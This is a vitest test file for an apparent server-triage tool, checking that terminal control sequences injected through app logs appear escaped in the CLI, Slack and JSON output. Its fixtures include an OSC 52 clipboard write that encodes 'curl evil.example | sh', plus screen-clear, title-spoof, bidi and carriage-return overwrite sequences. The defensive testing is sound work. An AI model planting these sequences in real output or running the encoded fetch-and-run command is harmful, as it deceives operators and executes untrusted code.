import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { renderText } from '../../../src/cli/render-text.js';
import { diagnoseOutputs } from '../../../src/core/index.js';
import { planLogTargets } from '../../../src/core/plan-log-targets.js';
import type { RawHostOutputs } from '../../../src/core/types.js';
import { visibleControls } from '../../../src/core/visible-controls.js';
import { renderHostFindings } from '../../../src/slack/render/index.js';
import type { HostResult } from '../../../src/triage/host-result.js';

// Whoever can make an app log a request path can put control characters in front of the on-call:
// a clipboard write (OSC 52), a cleared screen, a new window title, a bare CR that overwrites
// what came before. Every one must reach the CLI text, the Slack blocks and the JSON as a
// visible escape, never raw.

const ESC = '\x1b';
const SEQUENCES = {
  clipboard: `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07`,
  clear: `${ESC}[2J${ESC}[H`,
  title: `${ESC}]0;all green\x07`,
  csiC1: '\x9b31m',
  bidi: '\u202eevil\u202c',
  bareCr: 'checkout ok\rPAYMENTS FINE',
};
const C0_C1 = [...Array.from({ length: 32 }, (_, i) => i).filter((i) => i !== 9 && i !== 10), ...Array.from({ length: 33 }, (_, i) => 0x7f + i)]
  .map((c) => String.fromCharCode(c)).join('');
const HOSTILE = `${Object.values(SEQUENCES).join(' ')} all:[${C0_C1}]`;

// Control characters a reader's terminal or Slack would act on; tab and newline are layout.
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

/** The lab's captured app-bug host, its app errors carrying the hostile text. */
function hostileRaw(): RawHostOutputs {
  const raw = JSON.parse(readFileSync(new URL('../../fixtures/lab/app-bug.json', import.meta.url), 'utf8')) as RawHostOutputs;
  for (const c of raw.commands) {
    if (c.id === 'app_log') c.stdout = c.stdout.replace(/failed: TypeError: /g, `failed for ${HOSTILE}: TypeError: `);
  }
  return raw;
}

function hostResult(raw: RawHostOutputs): HostResult {
  const d = diagnoseOutputs(raw);
  return {
    host: 'app-bug', address: '127.0.10.13', reachable: true, error: null, errorReason: null, durationMs: 300,
    startedAt: '2026-12-02T22:20:00Z', rootCause: d.rootCause, findings: d.findings,
    commands: raw.commands.map(({ id, target, exitCode, durationMs, truncated, timedOut }) => ({ id, ...(target ? { target } : {}), exitCode, durationMs, truncated, timedOut })),
    checks: d.checks ?? [], figures: d.figures ?? null, notes: d.notes ?? [], upstreams: d.upstreams ?? [], appLogs: d.appLogs ?? [],
  };
}

describe('visibleControls', () => {
  it('escapes every C0/C1 character but tab and newline, drops colour codes and CR line ends', () => {
    const out = visibleControls(`a\tb\nc${C0_C1}d\r\n${ESC}[1;31mERROR${ESC}[0m done\r`);
    expect(out).not.toMatch(RAW_CONTROL);
    expect(out.startsWith('a\tb\nc\\0\\x01')).toBe(true);
    expect(out).toContain('\\e\\x1c');
    expect(out).toContain('\\x7f\\x80');
    expect(out).toContain('\\x9f');
    expect(out).toContain('\nERROR done');
    expect(out.endsWith('done')).toBe(true);
    expect(visibleControls(SEQUENCES.clipboard)).toBe('\\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07');
    expect(visibleControls(SEQUENCES.bareCr)).toBe('checkout ok\\rPAYMENTS FINE');
    expect(visibleControls(SEQUENCES.bidi)).toBe('\\u202eevil\\u202c');
  });

  it('leaves ordinary text alone, and escaping twice changes nothing', () => {
    const plain = 'GET /api/orders 500 — ünïcødé ✓ 日本';
    expect(visibleControls(plain)).toBe(plain);
    const once = visibleControls(HOSTILE);
    expect(visibleControls(once)).toBe(once);
  });
});

describe('hostile log text reaches no reader raw', () => {
  const result = hostResult(hostileRaw());

  it('is still diagnosed (the lines were read, not dropped) and quoted escaped in the findings', () => {
    expect(result.rootCause?.category).toBe('upstream_app_error');
    expect(JSON.stringify(result.findings)).toContain('\\\\e]52;c;');
  });

  it('CLI text report', () => {
    for (const color of [false, true]) {
      const text = renderText([result], color);
      // The report's own colours are the only escapes; strip them and nothing raw may remain.
      // eslint-disable-next-line no-control-regex
      const withoutOwnColours = text.replace(/\x1b\[[0-9;]*m/g, '');
      expect(withoutOwnColours).not.toMatch(RAW_CONTROL);
      expect(withoutOwnColours).toContain('\\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07');
      expect(withoutOwnColours).toContain('checkout ok\\rPAYMENTS FINE');
    }
  });

  it('Slack blocks', () => {
    const msg = renderHostFindings(result);
    const json = JSON.stringify(msg);
    expect(JSON.parse(json)).toEqual(msg);
    const strings: string[] = [];
    JSON.parse(json, (_k, v: unknown) => { if (typeof v === 'string') strings.push(v); return v; });
    for (const s of strings) expect(s).not.toMatch(RAW_CONTROL);
    expect(strings.join('\n')).toContain('\\e[2J\\e[H');
  });

  it('JSON result: no string holds a raw control character', () => {
    const strings: string[] = [];
    JSON.parse(JSON.stringify(result), (_k, v: unknown) => { if (typeof v === 'string') strings.push(v); return v; });
    for (const s of strings) expect(s).not.toMatch(RAW_CONTROL);
    expect(strings.some((s) => s.includes('\\e]0;all green\\x07'))).toBe(true);
  });

  it('a log path with control characters in nginx -T is refused, never read', () => {
    const raw = hostileRaw();
    const dump = raw.commands.find((c) => c.id === 'nginx_dump')!;
    dump.stdout = dump.stdout.replace(/access_log\s+(\/\S+)/, `access_log /var/log/nginx/x${ESC}]0;t\x07.log`);
    const plan = planLogTargets(raw.commands);
    expect(plan.accessLogs.some((p) => RAW_CONTROL.test(p))).toBe(false);
    expect(plan.notes.join('\n')).toContain('control characters');
  });
});
